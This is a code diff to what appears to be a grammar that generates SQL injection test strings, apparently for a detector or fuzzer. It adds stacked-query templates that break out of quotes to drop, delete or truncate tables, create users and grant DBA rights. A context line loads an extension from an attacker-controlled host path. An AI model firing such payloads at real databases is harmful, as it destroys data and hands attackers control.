@@ -296,6 +296,32 @@ export const stackedTemplates = family('sql-injection/stacked', {
       text`select load_extension('\\\\${attackerHost}\\${lowerWord}')`
     )
   ),
+  'not-separated': sql(
+    text`${maybe(baseValue)}${mostly(["' ", 5], ["'", 2], ['" ', 1], [' ', 2], ["') ", 1])}${oneOf(
+      text`delete from ${table}`,
+      text`drop table ${table}`,
+      text`truncate table ${table}`,
+      text`insert into ${table} values(${repeat(value, 1, 4, ',')})`,
+      text`update ${table} set ${column}=${value}`,
+      text`create user ${lowerWord} identified by ${inventedWord}`,
+      text`grant ${words('connect resource dba all')} to ${lowerWord}`
+    )}${maybe(oneOf(';', comment, text` where ${tautology}`), 0.3)}`
+  ),
+  administration: sql(
+    text`${maybe(oneOf("'", "';", ';'))}${repeat(
+      oneOf(
+        text`grant ${words('connect resource dba all')} to ${lowerWord}`,
+        text`create user ${lowerWord} identified by ${inventedWord} temporary tablespace temp default tablespace ${table}`,
+        text`create table ${alias} (${column} ${words('int text varchar(255) clob')})`,
+        text`alter user ${lowerWord} identified by ${inventedWord}`,
+        text`drop user ${lowerWord}${maybe(' cascade')}`,
+        text`revoke ${words('connect all')} from ${lowerWord}`
+      ),
+      1,
+      3,
+      '; '
+    )};${maybe(comment)}`
+  ),
   'second-select': statement(
     text`select ${oneOf(serverFact, readOut, text`* from ${table}`, text`${column} from ${table} where ${tautology}`)}`
   ),
